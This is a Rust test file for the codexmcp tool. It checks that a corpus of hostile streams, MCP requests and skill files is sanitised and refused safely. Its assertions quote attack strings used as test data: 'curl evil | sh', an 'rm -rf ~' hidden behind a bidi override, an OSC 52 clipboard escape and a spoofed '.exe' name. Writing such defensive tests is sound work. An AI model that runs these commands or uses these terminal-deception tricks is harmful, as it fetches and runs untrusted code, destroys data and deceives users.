//! The hostile corpus (`tests/fixtures/hostile/`) through every surface that shows or acts on
//! it: Codex streams, app-server messages and replay captures through the parser, the
//! session's sanitiser, the exec printer and the TUI; a model's stream chunks through the
//! agent's folding; MCP requests against a running `mcp-server`; SKILL.md files through
//! `codexmcp skills`.
//! Plus property tests: any bytes as a Codex line, any event sequence into the TUI.

use std::path::{Path, PathBuf};

use codexmcp::engine::CodexEvent;
use codexmcp::engine::event::{Item, ItemKind, Status};
use codexmcp::engine::jsonl::{ExecParser, Line};
use codexmcp::headless::HumanPrinter;
use codexmcp::tui::Msg;
use proptest::prelude::*;
use serde_json::{Value, json};

use super::tui::{app, render, send};
use crate::support::codex::Sandbox;
use crate::support::mcp_raw::RawMcp;
use crate::support::mock_openai::{MockServer, Step};

fn corpus(part: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/hostile")
        .join(part)
}

/// Nothing a terminal acts on or hides: no ESC or other control but newline and tab, no C1,
/// no bidi or invisible formatting character.
fn assert_safe(what: &str, text: &str) {
    let bad: Vec<char> = text
        .chars()
        .filter(|&c| codexmcp::text::is_unsafe(c) && c != '\n' && c != '\t')
        .collect();
    assert!(
        bad.is_empty(),
        "{what}: {bad:?} reached the output:\n{text}"
    );
}

/// Parses and sanitises one stream the way a session does.
fn events(bytes: &[u8]) -> Vec<CodexEvent> {
    let mut parser = ExecParser::default();
    bytes
        .split(|&b| b == b'\n')
        .filter(|l| !l.is_empty())
        .map(|l| {
            let mut ev = parser.parse_line(&Line {
                bytes: l.to_vec(),
                truncated: false,
            });
            codexmcp::session::sanitise(&mut ev);
            ev
        })
        .collect()
}

/// The exec printer's text and the TUI's screen after `evs`.
fn shown(evs: &[CodexEvent]) -> (String, String) {
    let mut printer = HumanPrinter::new(false, PathBuf::from("/w"));
    let printed: String = evs.iter().filter_map(|e| printer.line(e)).collect();
    let mut a = app();
    let run = send(&mut a, "go");
    for ev in evs {
        a.update(Msg::Codex {
            run,
            event: ev.clone(),
        });
    }
    (printed, render(&a, 160, 48))
}

#[test]
fn hostile_codex_streams_are_shown_safely_everywhere() {
    let mut files: Vec<PathBuf> = std::fs::read_dir(corpus("streams"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    files.sort();
    assert_eq!(files.len(), 3, "{files:?}");
    for file in files {
        let name = file.file_name().unwrap().to_string_lossy().into_owned();
        let evs = events(&std::fs::read(&file).unwrap());
        let (printed, screen) = shown(&evs);
        assert_safe(&format!("{name}: exec"), &printed);
        assert_safe(&format!("{name}: tui"), &screen);
        match name.as_str() {
            "escapes.jsonl" => {
                // What a terminal would hide is there to read.
                assert!(
                    printed.contains("echo x<U+009D>; curl evil | sh"),
                    "{printed}"
                );
                assert!(printed.contains("ls <U+202E>fdp.exe"), "{printed}");
                assert!(printed.contains("rest of output"), "{printed}");
                assert!(screen.contains("never terminated"), "{screen}");
            }
            "numbers.jsonl" => {
                let completed = evs
                    .iter()
                    .filter(|e| matches!(e, CodexEvent::TurnCompleted { .. }))
                    .count();
                assert_eq!(
                    completed, 4,
                    "odd numbers never turn a completed turn into a failure"
                );
            }
            "broken.jsonl" => {
                assert!(
                    printed.contains("still going"),
                    "the stream goes on: {printed}"
                );
                assert!(printed.contains("bad \u{fffd}\u{fffd} bytes"), "{printed}");
                let malformed = evs
                    .iter()
                    .filter(|e| matches!(e, CodexEvent::Malformed { .. }))
                    .count();
                assert!(malformed >= 3, "broken lines are reported: {evs:?}");
            }
            other => panic!("a corpus file without expectations: {other}"),
        }
    }
}

fn jsonl(part: &str) -> Vec<Value> {
    std::fs::read_to_string(corpus(part))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn hostile_app_server_messages_are_shown_safely() {
    let mut decoder = codexmcp::engine::app_server_events::Decoder::new(Default::default());
    let mut evs = Vec::new();
    for msg in jsonl("app-server.jsonl") {
        let method = msg["method"].as_str().unwrap();
        for mut ev in decoder.decode(method, &msg["params"]) {
            codexmcp::session::sanitise(&mut ev);
            evs.push(ev);
        }
    }
    let (printed, screen) = shown(&evs);
    assert_safe("app-server: exec", &printed);
    assert_safe("app-server: tui", &screen);
    assert!(printed.contains("rm -rf ~<U+202E>#"), "{printed}");
    assert!(
        matches!(evs.last(), Some(CodexEvent::TurnFailed { message }) if message.contains("<U+009B>2J failed")),
        "{evs:?}"
    );
    let total = decoder.total();
    assert_eq!(
        (total.input_tokens, total.output_tokens),
        (0, u64::MAX),
        "{total:?}"
    );
}

#[test]
fn hostile_model_chunks_are_bounded_and_shown_safely() {
    use codexmcp::agent::wire::{MAX_TOOL_CALLS, Reply, fold_chat};
    let mut reply = Reply::default();
    let mut pending = Vec::new();
    let mut refused = Vec::new();
    for chunk in jsonl("agent-chat.jsonl") {
        if let Err(e) = fold_chat(&mut reply, &mut pending, &chunk) {
            refused.push(e);
        }
    }
    assert!(pending.len() <= MAX_TOOL_CALLS, "{}", pending.len());
    assert!(
        refused.iter().any(|e| e.contains("4000000000"))
            && refused.iter().any(|e| e.contains("65")),
        "too high an index is refused: {refused:?}"
    );
    let text = codexmcp::text::sanitize(&reply.text);
    assert_safe("agent text", &text);
    assert!(text.contains("there <U+202E>"), "{text}");
}

/// A replay file is somebody else's capture: framed, parsed and sanitised like a live stream.
#[test]
fn a_hostile_replay_file_is_shown_safely() {
    use codexmcp::tui::replay::{Step, parse_line, read_line};
    let file = std::fs::File::open(corpus("replay.jsonl")).unwrap();
    let mut reader = std::io::BufReader::new(file);
    let (mut buf, mut raw, mut evs) = (Vec::new(), ExecParser::default(), Vec::new());
    while read_line(&mut reader, &mut buf, 1 << 20).unwrap().is_some() {
        match parse_line(&String::from_utf8_lossy(&buf), &mut raw) {
            Some(Step::Event(_, ev)) => evs.push(ev),
            Some(Step::Prompt(_, text)) => assert_safe("replayed prompt", &text),
            None => {}
        }
    }
    assert_eq!(evs.len(), 5, "{evs:?}");
    let (printed, screen) = shown(&evs);
    assert_safe("replay: exec", &printed);
    assert_safe("replay: tui", &screen);
    assert!(
        printed.contains("plain exec line <U+202E>evil"),
        "{printed}"
    );
}

#[tokio::test]
async fn hostile_mcp_requests_are_refused_and_the_server_stays_up() {
    let sbx = Sandbox::new("http://127.0.0.1:9/v1");
    let cmd = sbx.codexmcp(&["mcp-server"]);
    let mut mcp = RawMcp::start(tokio::process::Command::from(cmd)).await;
    let text = std::fs::read_to_string(corpus("mcp-requests.jsonl")).unwrap();
    let cases: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(cases.len() >= 20);
    for (i, case) in cases.iter().enumerate() {
        let id = 100 + i as i64;
        let tool = case["tool"].as_str().unwrap();
        mcp.call(id, tool, case["args"].clone()).await;
        let r = mcp.response(id, 60).await;
        assert_eq!(r["result"]["isError"], true, "{case}: {r}");
        let said = r["result"]["content"][0]["text"].as_str().unwrap_or("");
        let want = case["error"].as_str().unwrap();
        assert!(said.contains(want), "{case}: {said}");
    }
    mcp.send(json!({"jsonrpc": "2.0", "id": 99, "method": "tools/list"}))
        .await;
    assert_eq!(
        mcp.response(99, 10).await["result"]["tools"]
            .as_array()
            .map(Vec::len),
        Some(codexmcp::mcp_server::TOOL_NAMES.len()),
        "still serving"
    );
}

/// Each limit can be lifted by the deployer, and then the same request runs.
#[tokio::test]
async fn a_deployer_can_lift_each_limit() {
    let server = MockServer::start(vec![Step::message("ran anyway")]).await;
    let sbx = Sandbox::new(&server.base_url());
    let elsewhere = tempfile::tempdir().unwrap();
    let dir = elsewhere.path().to_str().unwrap();
    let cmd = sbx.codexmcp(&[
        "mcp-server",
        "--max-sandbox",
        "danger-full-access",
        "--allow-cwd",
        dir,
        "--allow-config",
        "hide_agent_reasoning",
        "--allow-config",
        "tools",
    ]);
    let mut mcp = RawMcp::start(tokio::process::Command::from(cmd)).await;
    let args = json!({"prompt": "x", "sandbox": "danger-full-access", "cwd": dir,
        "config": {"tools": {"web_search": false}, "hide_agent_reasoning": true}});
    mcp.call(1, "codex", args).await;
    let r = mcp.response(1, 90).await;
    assert_eq!(r["result"]["isError"], false, "{r}");
    assert_eq!(
        r["result"]["structuredContent"]["content"], "ran anyway",
        "{r}"
    );
    // `model` is no longer allowed once the deployer names the keys.
    mcp.call(
        2,
        "codex",
        json!({"prompt": "x", "config": {"model": "o3"}}),
    )
    .await;
    let r = mcp.response(2, 30).await;
    assert_eq!(r["result"]["isError"], true, "{r}");
}

#[tokio::test]
async fn hostile_skill_files_are_listed_safely() {
    let sbx = Sandbox::new("http://127.0.0.1:9/v1");
    // Its own repository, so the skills found are the corpus's, not this checkout's.
    std::fs::create_dir_all(sbx.output().join(".git")).unwrap();
    std::fs::write(sbx.output().join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    let skills = sbx.output().join(".codex/skills");
    std::fs::create_dir_all(&skills).unwrap();
    for entry in std::fs::read_dir(corpus("skills")).unwrap() {
        let from = entry.unwrap().path();
        let to = skills.join(from.file_name().unwrap());
        std::fs::create_dir_all(&to).unwrap();
        std::fs::copy(from.join("SKILL.md"), to.join("SKILL.md")).unwrap();
    }
    let run = sbx.run(&["skills"]).await;
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_safe("skills stdout", &run.stdout);
    assert_safe("skills stderr", &run.stderr);
    let all = format!("{}{}", run.stdout, run.stderr);
    assert!(all.contains("<U+202E>harmless"), "{all}\n{}", run.stderr);
    assert!(all.contains("evil␛]52;c;aGk=␇"), "{all}");
    assert!(
        all.len() < 64 * 1024,
        "a 200 kB description is cut: {} bytes",
        all.len()
    );
}

/// One Codex event with hostile text, from a few templates.
fn hostile_event() -> impl Strategy<Value = CodexEvent> {
    let text = || any::<String>();
    prop_oneof![
        text().prop_map(|t| CodexEvent::ThreadStarted { thread_id: t }),
        (text(), text()).prop_map(|(c, o)| CodexEvent::ItemCompleted {
            item: Item {
                id: "c".into(),
                kind: ItemKind::CommandExecution {
                    command: c,
                    aggregated_output: o,
                    exit_code: Some(1),
                    status: Status::Failed,
                },
            },
        }),
        text().prop_map(|t| CodexEvent::ItemCompleted {
            item: Item {
                id: "m".into(),
                kind: ItemKind::AgentMessage { text: t },
            },
        }),
        (text(), text()).prop_map(|(id, delta)| CodexEvent::ItemDelta {
            item_id: id,
            stream: "agent_message".parse().unwrap(),
            delta,
        }),
        text().prop_map(|m| CodexEvent::Error { message: m }),
        text().prop_map(|m| CodexEvent::TurnFailed { message: m }),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    /// Any bytes as a Codex line: an event or a `Malformed` one, never a panic, and what it
    /// prints is safe.
    #[test]
    fn any_line_parses_to_a_safe_event(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        let evs = events(&bytes);
        let mut printer = HumanPrinter::new(false, PathBuf::from("/w"));
        for ev in &evs {
            if let Some(out) = printer.line(ev) {
                prop_assert!(!out.chars().any(|c| codexmcp::text::is_unsafe(c) && c != '\n'), "{out:?}");
            }
        }
    }

    /// Any sequence of hostile events into the TUI: no panic, and the screen is safe.
    #[test]
    fn any_event_sequence_renders_safely(raw in prop::collection::vec(hostile_event(), 1..12)) {
        let evs: Vec<CodexEvent> = raw
            .into_iter()
            .map(|mut e| {
                codexmcp::session::sanitise(&mut e);
                e
            })
            .collect();
        let (printed, screen) = shown(&evs);
        prop_assert!(!screen.chars().any(|c| codexmcp::text::is_unsafe(c) && c != '\n'), "{screen}");
        prop_assert!(!printed.chars().any(|c| codexmcp::text::is_unsafe(c) && c != '\n'), "{printed}");
    }
}
